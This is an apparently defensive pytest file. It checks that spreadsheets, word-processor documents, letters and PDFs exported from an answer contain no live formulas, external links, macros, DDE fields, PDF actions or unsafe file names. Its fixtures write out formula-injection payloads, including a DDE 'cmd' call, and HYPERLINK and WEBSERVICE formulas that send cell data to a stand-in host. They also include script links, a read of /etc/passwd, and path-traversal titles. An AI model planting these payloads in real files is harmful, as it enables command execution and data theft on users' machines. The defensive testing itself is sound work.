"""What an answer may smuggle into the files a person takes home: nothing that calculates, runs or loads."""

from __future__ import annotations

import re
import zipfile
from io import BytesIO

import openpyxl
import pytest

from sandbox.documents import LETTER_WRITERS, WRITERS
from sandbox.documents.letter import to_letter
from sandbox.documents.outline import from_answer
from ui.widgets.take_home import file_name

LEADS = ("=", "+", "-", "@", "\t=", "\r=", " =", "＝", "'=", "=-", "=+", "@SUM(1+1)*")
HOSTILE = (
    "cmd|' /C calc'!A0", 'HYPERLINK("http://192.0.2.7/?"&A1,"누르세요")', 'WEBSERVICE("http://192.0.2.7")',
    "DDE(\"cmd\";\"/C calc\")", "IMPORTXML(\"http://192.0.2.7\",\"//a\")",
)  # fmt: skip
ANSWER = "\n".join(
    [
        "# =cmd|' /C calc'!A0", "□ [누르세요](http://192.0.2.7/a) ![그림](http://192.0.2.7/b.png)",
        "○ <script>alert(1)</script> <a href='javascript:alert(1)'>a</a>",
        "- file:///etc/passwd \\\\192.0.2.7\\나눔 {{7*7}} ${7*7} &xxe;",
        "| 이름 | 값 |", "|---|---|",
        *(f"| {lead}{text} | {text} |" for lead in LEADS for text in HOSTILE[:2]),
    ]
)  # fmt: skip


def parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("lead", LEADS)
def test_no_cell_of_a_workbook_calculates(lead: str, text: str) -> None:
    data = (
        WRITERS["xlsx"].write(from_answer(f"| 이름 | 값 |\n|---|---|\n| {lead}{text} | {lead}{text} |")).data
    )
    book = openpyxl.load_workbook(BytesIO(data))
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row if cell.value}
    assert "f" not in kinds and kinds
    assert not any(sheet._hyperlinks for sheet in book)
    assert not any(name.startswith("xl/externalLinks") for name in parts(data))


@pytest.mark.parametrize("kind", [k for k in WRITERS if k not in ("pdf", "md")])
def test_no_document_reaches_out(kind: str) -> None:
    """No relation leads outside, no macro, no field that Word or 한글 would carry out."""
    for name, part in parts(WRITERS[kind].write(from_answer(ANSWER)).data).items():
        assert b'TargetMode="External"' not in part, name
        assert set(re.findall(rb"<w:instrText[^>]*>\s*([^<\s]*)", part)) <= {b"PAGE", b"NUMPAGES"}, name
        assert not re.search(rb"fldSimple|w:object|oleObject|DDEAUTO|INCLUDEPICTURE", part), name
        assert not re.search(rb"<hp:fieldBegin[^>]*(?:HYPERLINK|PATH|SUMMERY)", part), name
        inert = "printerSettings" in name  # the library's own empty page set-up
        assert inert or not name.lower().endswith((".bin", ".vbs", ".js")), name
        assert not name.startswith("Scripts/") or b"192.0.2.7" not in part


@pytest.mark.parametrize("kind", list(LETTER_WRITERS))
def test_no_letter_reaches_out(kind: str) -> None:
    letter = to_letter(from_answer(ANSWER), title="=cmd|' /C calc'!A0")
    for name, part in parts(LETTER_WRITERS[kind].write(letter).data).items():
        assert b'TargetMode="External"' not in part, name
        assert set(re.findall(rb"<w:instrText[^>]*>\s*([^<\s]*)", part)) <= {b"PAGE", b"NUMPAGES"}, name
        assert not re.search(rb"fldSimple|oleObject|DDEAUTO|INCLUDEPICTURE", part), name


def test_no_pdf_acts() -> None:
    data = WRITERS["pdf"].write(from_answer(ANSWER)).data
    for action in (
        b"/JavaScript",
        b"/JS",
        b"/Launch",
        b"/URI",
        b"/OpenAction << /S",
        b"/EmbeddedFile",
        b"/AA",
    ):
        assert action not in data, action


@pytest.mark.parametrize(
    "title",
    [
        "../../밖으로",
        "..\\..\\밖",
        'a/b:c*?"<>|',
        "\u202efdp.exe",
        "가" * 300,
        "",
        "...",
        "a\r\nSet-Cookie: x",
    ],
)
def test_a_title_makes_no_path(title: str) -> None:
    """What a browser would save the document as is one plain name."""
    name = file_name(title, ".docx")
    assert re.fullmatch(r"[\w가-힣 ()·.-]+\.docx", name), name
    assert ".." not in name and len(name) <= 120 and not name.startswith(".")
